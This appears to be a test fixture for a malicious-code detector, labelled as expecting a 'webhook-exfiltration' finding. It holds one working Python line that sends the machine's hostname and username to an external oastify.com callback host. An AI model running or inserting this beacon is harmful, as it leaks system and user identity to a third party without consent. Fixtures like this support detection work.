# expect: 3 webhook-exfiltration
import socket, getpass, requests, platform
requests.get('http://x.oastify.com/?h=%s&u=%s' % (socket.gethostname(), getpass.getuser()))
